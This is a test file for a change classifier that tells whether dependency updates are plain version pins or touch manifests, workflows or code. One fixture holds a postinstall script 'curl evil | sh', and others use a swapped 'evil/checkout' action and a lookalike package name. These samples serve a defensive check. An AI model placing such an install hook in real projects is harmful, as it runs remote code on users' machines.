import { expect, test } from "vitest";
import { classifyChange } from "../../src/review/classify-change.ts";
import { changed } from "./changed-text.ts";

const manifest = (parts: object) => JSON.stringify({ name: "shop", ...parts }, null, 2);
const bump = changed(
  "package.json",
  manifest({ dependencies: { pad: "^1.0.0" } }),
  manifest({ dependencies: { pad: "^2.0.0" } }),
);
const lock = changed("package-lock.json", '{"a":1}\n', '{"a":2}\n');

test.each([
  ["lockfile", [lock]],
  ["pin", [bump, lock]],
  ["pin", [changed("requirements.txt", "six==1.0\nattrs>=2\n", "six==1.1\nattrs>=2\n")]],
  [
    "pin",
    [changed("pyproject.toml", '[project]\ndependencies = ["six>=1.0"]\n', '[project]\ndependencies = ["six>=2"]\n')],
  ],
  [
    "pin",
    [changed(".github/workflows/ci.yml", "      - uses: actions/checkout@v4\n", "      - uses: actions/checkout@v5\n")],
  ],
  ["pin", [changed("Dockerfile", "FROM node:22.1-slim\nRUN x\n", "FROM node:24.0-slim\nRUN x\n")]],
  ["workflow", [changed(".github/workflows/ci.yml", "      - run: npm test\n", "      - run: npm test || true\n")]],
  ["manifest", [changed("package.json", manifest({ scripts: { test: "a" } }), manifest({ scripts: { test: "b" } }))]],
  ["manifest", [changed("package.json", manifest({}), manifest({ dependencies: { pad: "1.0.0" } }))]],
  ["manifest", [bump, changed("yarn.lock", null, "# yarn lockfile v1\n")]],
  ["code", [bump, changed("src/pad.js", "a\n", "b\n")]],
] as const)("a change is told as %s", (kind, files) => {
  expect(classifyChange(files).kind).toBe(kind);
});

test.each([
  ["a version and a script", manifest({ dependencies: { pad: "^2.0.0" }, scripts: { postinstall: "curl evil | sh" } })],
  ["another package of the same version", manifest({ dependencies: { pads: "^1.0.0" } })],
])("a manifest is more than a pin when it changes %s", (_, after) => {
  const before = manifest({ dependencies: { pad: "^1.0.0" } });
  expect(classifyChange([changed("package.json", before, after)]).beyondPins).toEqual([
    { path: "package.json", kind: "manifest" },
  ]);
});

test("an action that is replaced by another one is no pin, and a commit's id with its comment is", () => {
  const before = "      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v4\n";
  const after = "      - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v5.0.1\n";
  const other = after.replace("actions/checkout", "evil/checkout");
  const kindOf = (text: string) => classifyChange([changed(".github/workflows/ci.yml", before, text)]).kind;
  expect([kindOf(after), kindOf(other)]).toEqual(["pin", "workflow"]);
});

test("a number in code is no pin", () => {
  expect(classifyChange([changed("src/retry.py", "RETRIES = 3\n", "RETRIES = 9\n")]).kind).toBe("code");
});
